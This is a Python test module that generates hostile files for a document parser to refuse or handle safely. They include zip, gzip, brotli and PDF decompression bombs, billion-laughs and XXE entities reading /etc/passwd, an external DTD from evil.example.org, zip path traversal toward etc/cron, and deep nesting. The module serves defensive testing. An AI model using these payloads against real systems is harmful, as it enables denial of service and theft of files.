"""Inputs built to do harm: bombs, thefts, endless depth, lies about length. Each is a file's name and how it is made.

What is large is made when it is asked for and thrown away, so that no big file lies in the repository. How large the
bombs are, HOSTILE_MB says: `make hostile` makes them of a gigabyte, larger than the child's memory.
"""

import gzip
import io
import json
import os
import struct
import zipfile
import zlib
from collections.abc import Callable
from functools import partial
from pathlib import Path

DATA = Path(__file__).parents[2] / "data" / "formats"
WORDS = "The mayor of Tollen said that the ferry had run aground because the beacon was dark. "
MB = 1024 * 1024
BOMB = int(os.environ.get("HOSTILE_MB", "40"))
#: What a theft would bring home.
SECRET = Path("/etc/passwd")

Hostile = tuple[str, Callable[[], bytes]]


# --- parts ------------------------------------------------------------------------------------------------------------


class Zeros(bytes):
    """Stands for so many megabytes of NULs in a package, which are never held all at once."""


BOMB_ZEROS = Zeros(b"bomb")


def zipped(files: dict[str, bytes], method: int = zipfile.ZIP_DEFLATED) -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w", method) as archive:
        for name, data in files.items():
            info = zipfile.ZipInfo(name)
            # By the standards what a package is stands first, and is not compressed.
            info.compress_type = zipfile.ZIP_STORED if name == "mimetype" else method
            with archive.open(info, "w") as file:
                for piece in [bytes(MB)] * BOMB if isinstance(data, Zeros) else [data]:
                    file.write(piece)
    return held.getvalue()


def packed(window: int, before: bytes = b"", piece: bytes = bytes(MB)) -> bytes:
    """A bomb as gzip (window 31) or deflate (15)."""
    packer = zlib.compressobj(9, zlib.DEFLATED, window)
    return packer.compress(before) + b"".join(packer.compress(piece) for _ in range(BOMB)) + packer.flush()


GZIP, DEFLATE = 31, 15


def changed(sample: str, **files: bytes) -> bytes:
    """A real document with files in its package replaced or added; a dot in a name is written as two underscores."""
    with zipfile.ZipFile(DATA / sample) as package:
        held = {name: package.read(name) for name in package.namelist()}
    return zipped(held | {_named(name): data for name, data in files.items()})


def _named(keyword: str) -> str:
    return keyword.replace("___", "/").replace("__", ".")


def altered(sample: str, member: str, old: bytes, new: bytes) -> bytes:
    """A real document with some bytes of a file in its package replaced."""
    with zipfile.ZipFile(DATA / sample) as package:
        held = {name: package.read(name) for name in package.namelist()}
    assert old in held[member], "the sample is not what this test was written for"
    held[member] = held[member].replace(old, new, 1)
    return zipped(held)


def in_prolog(sample: str, member: str, declaration: bytes, use: bytes, at: bytes) -> bytes:
    """A real document with a document type in one of its files, and its entity used where `at` stands."""
    with zipfile.ZipFile(DATA / sample) as package:
        held = {name: package.read(name) for name in package.namelist()}
    body = held[member]
    head, _, rest = body.partition(b"?>")
    assert at in rest, "the sample is not what this test was written for"
    held[member] = head + b"?>" + declaration + rest.replace(at, use, 1)
    return zipped(held)


LAUGHS = (
    b'<!DOCTYPE lolz [<!ENTITY a0 "ha">'
    + b"".join(b'<!ENTITY a%d "%s">' % (n, b"&a%d;" % (n - 1) * 10) for n in range(1, 12))
    + b"]>"
)
LAUGH = b"&a11;"
THEFT = f'<!DOCTYPE x [<!ENTITY a11 SYSTEM "{SECRET.as_uri()}">]>'.encode()
#: Where in a real document an entity would be used: its file, and words there.
PLACES = {
    "docx": ("libreoffice.docx", "word/document.xml", b"The accident"),
    "odt": ("libreoffice.odt", "content.xml", b"The accident"),
    "xlsx": ("libreoffice.xlsx", "xl/sharedStrings.xml", b"Inquiry chair"),
    "ods": ("libreoffice.ods", "content.xml", b"Inquiry chair"),
    "book.epub": ("libreoffice.epub", "OEBPS/content.opf", b"Report on the Tollen ferry"),
    "chapter.epub": ("libreoffice.epub", "OEBPS/sections/section0001.xhtml", b"The accident"),
}


def declared(place: str, declaration: bytes) -> bytes:
    sample, member, at = PLACES[place]
    return in_prolog(sample, member, declaration, LAUGH, at)


def feed(declaration: bytes, inside: bytes = LAUGH) -> bytes:
    return (
        b'<?xml version="1.0"?>' + declaration + b'<rss version="2.0"><channel><title>News</title><item><title>'
        b"Inquiry</title><description>" + inside + WORDS.encode() + b"</description></item></channel></rss>"
    )


def answer(body: bytes, encoding: str, length: int | None = None) -> bytes:
    """A web archive of one page."""
    head = f"HTTP/1.1 200 OK\r\nContent-Type: text/html\r\nContent-Encoding: {encoding}\r\n\r\n".encode()
    length = len(head) + len(body) if length is None else length
    return (
        b"WARC/1.0\r\nWARC-Type: response\r\nWARC-Target-URI: https://post.example.org/\r\n"
        b"WARC-Date: 2024-05-03T10:00:00Z\r\nContent-Type: application/http; msgtype=response\r\n"
        + f"Content-Length: {length}\r\n\r\n".encode()
        + head
        + body
        + b"\r\n\r\n"
    )


def packed_archive() -> bytes:
    return packed(GZIP, answer(b"", "", BOMB * MB + 100))


def brotli_bomb() -> bytes:
    import brotli

    packer = brotli.Compressor(quality=1)
    made: bytes = b"".join(packer.process(bytes(MB)) for _ in range(BOMB)) + packer.finish()
    return made


def lying_directory() -> bytes:
    """A document whose list of contents says that its text is small."""
    data = changed("libreoffice.docx", word___document__xml=BOMB_ZEROS)
    return data.replace(struct.pack("<I", BOMB * MB), struct.pack("<I", 2000))


def overlapping() -> bytes:
    """A thousand names in the list of contents for one and the same megabyte."""
    one = zipped({"word/document.xml": bytes(MB)})
    start = one.index(b"PK\x01\x02")
    end = one.index(b"PK\x05\x06")
    entry = one[start:end]
    entries = b"".join(entry.replace(b"word/document.xml", b"word/docum%03d.xml" % n) for n in range(1000))
    tail = struct.pack("<4sHHHHIIH", b"PK\x05\x06", 0, 0, 1000, 1000, len(entries), start, 0)
    return one[:start] + entries + tail


def doubled() -> bytes:
    held = io.BytesIO()
    with zipfile.ZipFile(held, "w") as archive:
        for number in (1, 2):
            archive.writestr(zipfile.ZipInfo(f"word/documen{number}.xml"), b"<a/>")
    return held.getvalue().replace(b"documen2", b"documen1")


def encrypted_zip() -> bytes:
    data = bytearray(changed("libreoffice.docx"))
    for magic, offset in ((b"PK\x01\x02", 8), (b"PK\x03\x04", 6)):
        at = data.find(magic)
        while at >= 0:
            data[at + offset] |= 1
            at = data.find(magic, at + 4)
    return bytes(data)


def pdf(objects: list[bytes]) -> bytes:
    """A PDF of these objects, numbered from 1; the first is its catalogue."""
    data, places = b"%PDF-1.7\n", []
    for number, body in enumerate(objects, 1):
        places.append(len(data))
        data += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    table = b"".join(b"%010d 00000 n \n" % place for place in places)
    return (
        data
        + b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
        + table
        + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, len(data))
    )


def pdf_bomb() -> bytes:
    body = packed(DEFLATE, piece=b"BT (words) Tj ET " * (MB // 17))
    stream = b"<< /Length %d /Filter /FlateDecode >>\nstream\n" % len(body) + body + b"\nendstream"
    page = b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 9 9] /Contents 4 0 R >>"
    return pdf([b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>", page, stream])


def looping_pdf() -> bytes:
    return pdf(
        [b"<< /Type /Catalog /Pages 2 0 R >>", b"<< /Type /Pages /Kids [2 0 R 2 0 R] /Count 1000000 /Parent 2 0 R >>"]
    )


def huge_sheet() -> bytes:
    """Two cells in the corners of the largest sheet that there is."""
    sheet = (
        b'<?xml version="1.0"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main">'
        b'<dimension ref="A1:XFD1048576"/><sheetData>'
        b'<row r="1"><c r="A1" t="inlineStr"><is><t>Statement</t></is></c></row>'
        b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>Words</t></is></c></row></sheetData></worksheet>'
    )
    return changed("libreoffice.xlsx", xl___worksheets___sheet1__xml=sheet, xl___worksheets___sheet2__xml=sheet)


def deep_mail(depth: int) -> bytes:
    heads = b"".join(
        b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (number, number) for number in range(depth)
    )
    return LETTER + heads + b"Content-Type: text/plain\r\n\r\n" + WORDS.encode()


LETTER = b"From: a@example.org\r\nDate: Fri, 03 May 2024 18:20:00 +0100\r\nSubject: Papers\r\nMIME-Version: 1.0\r\n"


def forwarded(depth: int) -> bytes:
    return (LETTER + b"Content-Type: message/rfc822\r\n\r\n") * depth + LETTER + b"\r\n" + WORDS.encode()


def many_parts() -> bytes:
    part = b"--b\r\nContent-Type: text/plain\r\n\r\nwords\r\n"
    return LETTER + b"Content-Type: multipart/mixed; boundary=b\r\n\r\n" + part * 200_000 + b"--b--\r\n"


def long_header() -> bytes:
    return (
        LETTER
        + b"X: "
        + b"=?utf-8?q?"
        + b"=" * 3_000_000
        + b"?=\r\nTo: "
        + b'"\\' * 500_000
        + b"\r\n\r\n"
        + WORDS.encode()
    )


RELATED = b"Content-Type: multipart/related; boundary=b\r\n\r\n--b--\r\n"
DEEP = 100_000
TEXT_ODT = b"application/vnd.oasis.opendocument.text"
DEEP_WORD = b"<w:p>" * DEEP + b"</w:p>" * DEEP + b"</w:document>"
WORD_NS = b'xmlns:w="http://schemas.openxmlformats.org/wordprocessingml/2006/main"'

#: What must be refused with a sentence.
REFUSED: dict[str, Hostile] = {
    # Bombs.
    "gzip bomb in a web archive": ("a.warc", lambda: answer(packed(GZIP), "gzip")),
    "deflate bomb in a web archive": ("a.warc", lambda: answer(packed(DEFLATE), "deflate")),
    "brotli bomb in a web archive": ("a.warc", lambda: answer(brotli_bomb(), "br")),
    "gzip in gzip in a web archive": (
        "a.warc",
        lambda: answer(gzip.compress(packed(GZIP)), "gzip, gzip"),
    ),
    "archive packed from a bomb": ("a.warc.gz", packed_archive),
    "bomb in a packaged archive": (
        "a.wacz",
        lambda: zipped({"datapackage.json": b"{}", "archive/a.warc.gz": packed_archive()}),
    ),
    "zip bomb as Word": ("a.docx", lambda: changed("libreoffice.docx", word___document__xml=BOMB_ZEROS)),
    "zip bomb as OpenDocument": ("a.odt", lambda: changed("libreoffice.odt", content__xml=BOMB_ZEROS)),
    "zip bomb as a workbook": ("a.xlsx", lambda: changed("libreoffice.xlsx", xl___sharedStrings__xml=BOMB_ZEROS)),
    "zip bomb as a book": ("a.epub", lambda: changed("libreoffice.epub", OEBPS___content__opf=BOMB_ZEROS)),
    "zip bomb of many small files": (
        "a.docx",
        lambda: zipped({f"word/{n}.xml": b"" for n in range(30_000)}, zipfile.ZIP_STORED),
    ),
    "zip in zip in zip": ("a.zip", lambda: zipped({"b.zip": zipped({"c.zip": zipped({"d": BOMB_ZEROS})})})),
    "list of contents that lies": ("a.docx", lying_directory),
    "overlapping files": ("a.docx", overlapping),
    "PDF stream bomb": ("a.pdf", pdf_bomb),
    # Built to deceive.
    "two files of one name": ("a.docx", doubled),
    "paths out of the package": ("a.docx", lambda: changed("libreoffice.docx", ______________etc___cron=b"x")),
    "absolute paths": (
        "a.odt",
        lambda: zipped({"mimetype": TEXT_ODT, "/etc/x": b""}, 0),
    ),
    "encrypted package": ("a.docx", encrypted_zip),
    "no content in the package": ("a.odt", lambda: zipped({"mimetype": TEXT_ODT}, 0)),
    # Entities.
    **{f"billion laughs, {place}": (f"a.{place}", partial(declared, place, LAUGHS)) for place in PLACES},
    **{f"theft of a file, {place}": (f"a.{place}", partial(declared, place, THEFT)) for place in PLACES},
    "billion laughs in a feed": ("a.rss", lambda: feed(LAUGHS)),
    "theft of a file by a feed": ("a.rss", lambda: feed(THEFT)),
    "theft of a file in UTF-16": ("a.rss", lambda: feed(THEFT).decode().encode("utf-16")),
    "quadratic entities": ("a.rss", lambda: feed(b'<!DOCTYPE x [<!ENTITY a11 "' + b"ha" * MB + b'">]>', LAUGH * 1000)),
    "a document type from the web": (
        "a.rss",
        lambda: feed(b'<!DOCTYPE x [<!ENTITY % d SYSTEM "https://evil.example.org/d.dtd"> %d;]>', b""),
    ),
    # Depth.
    "deep HTML": ("a.html", lambda: b"<html><body>" + b"<div>" * DEEP + WORDS.encode()),
    "deep JSON": ("a.jsonl", lambda: b'{"text": ' + b"[" * DEEP + b"]" * DEEP + b"}"),
    "deep feed": ("a.rss", lambda: feed(b"", b"<a>" * DEEP + b"</a>" * DEEP)),
    "deep Word": (
        "a.docx",
        lambda: changed(
            "libreoffice.docx",
            word___document__xml=b"<w:document "
            + WORD_NS
            + b">"
            + b"<w:p>" * DEEP
            + b"</w:p>" * DEEP
            + b"</w:document>",
        ),
    ),
    "deep OpenDocument": ("a.odt", lambda: altered("libreoffice.odt", "content.xml", b"The accident", b"<a>" * DEEP)),
    "deep RTF": ("a.rtf", lambda: b"{\\rtf1 " + b"{" * DEEP + WORDS.encode() + b"}" * (DEEP + 1)),
    "deep mail": ("a.eml", lambda: deep_mail(DEEP)),
    "letters in letters": ("a.eml", lambda: forwarded(5000)),
    "a letter of too many parts": ("a.eml", many_parts),
    "letters in four letters": ("a.eml", lambda: forwarded(4)),
    "deep Markdown": ("a.md", lambda: b">" * 20_000 + WORDS.encode()),
    # Size.
    "thirty megabytes of HTML": ("a.html", lambda: b"<html><body>" + b"<p><b>words</b> and <i>more</i>" * MB),
    "a million columns": ("a.csv", lambda: b"Statement," * 1_000_000 + b"\n" + b"words," * 1_000_000),
    "a cell in the last corner": ("a.xlsx", huge_sheet),
    "a JSON number of a million digits": ("a.jsonl", lambda: b'{"text": ' + b"9" * 1_000_000 + b"}"),
    # Damage.
    "PDF cut short": ("a.pdf", lambda: (DATA / "libreoffice.pdf").read_bytes()[:600]),
    "PDF under a password": ("a.pdf", (DATA / "encrypted.pdf").read_bytes),
    "PDF whose pages are in themselves": ("a.pdf", looping_pdf),
    "Word cut short": ("a.docx", lambda: (DATA / "libreoffice.docx").read_bytes()[:5000]),
    "workbook of 1997 cut short": ("a.xls", lambda: (DATA / "libreoffice.xls").read_bytes()[:3000]),
    "archive cut short": ("a.warc.gz", lambda: (DATA / "crawl.warc.gz").read_bytes()[:300]),
    "archive that says too much": ("a.warc", lambda: answer(b"", "", 10**15)),
    "archive that says less than nothing": ("a.warc", lambda: answer(b"<p>" + WORDS.encode(), "", -5)),
    "brotli that is none": ("a.warc", lambda: answer(b"no brotli", "br")),
    "subtitles with broken codes": ("a.vtt", lambda: b"WEBVTT\n\n" + b"00:99:99.999 --> x\nwords\n\n" * 1000),
    "subtitles without end": ("a.srt", lambda: b"1\n00:00:01,0 --> " + b"9" * MB + b":00:00,0\n" + WORDS.encode()),
    "saved page without a page": (
        "a.mht",
        lambda: LETTER + RELATED,
    ),
    "entities nobody closed": ("a.rss", lambda: feed(b"", b"&#x110000; &nothing; <![CDATA[")),
}

#: What can be read, without harm: the file, and words that must be in its text.
READ: dict[str, tuple[str, Callable[[], bytes], str]] = {
    "Word with macros": (
        "a.docm",
        lambda: changed("libreoffice.docx", word___vbaProject__bin=b"\xd0\xcf\x11\xe0 Sub AutoOpen()"),
        "112 passengers aboard",
    ),
    "mixed encodings": ("a.txt", lambda: "Köln, Zürich. ".encode() * 20 + "Genève ".encode("latin-1"), "Köln, Zürich."),
    "bidi controls": (
        "a.txt",
        f"{WORDS}\u202egnisol\u202c and \u2066more\u2069 words.".encode,
        "beacon was dark",
    ),
    "a table with an open quote": ("a.csv", lambda: b'Statement,Who\n"' + WORDS.encode() * 1000, "beacon was dark"),
    "a letter with endless headers": ("a.eml", long_header, "beacon was dark"),
    "a page of open comments": ("a.html", lambda: f"<html><p>{WORDS}".encode() + b"<!--" * 200_000, "beacon was dark"),
    "a page that names a file": (
        "a.html",
        f'<html><body><p>{WORDS}</p><iframe src="{SECRET.as_uri()}"></iframe></body></html>'.encode,
        "beacon was dark",
    ),
    "a page with a theft": (
        "a.html",
        lambda: THEFT.replace(b"DOCTYPE x", b"DOCTYPE html") + f"<html><body><p>{WORDS} &a11;</p>".encode(),
        "beacon was dark",
    ),
    "a letter in two letters": ("a.eml", lambda: forwarded(2), "beacon was dark"),
    "a line of JSON that is none": (
        "a.jsonl",
        (json.dumps({"text": WORDS}) + '\n{"text": \n{]\n').encode,
        "beacon",
    ),
}
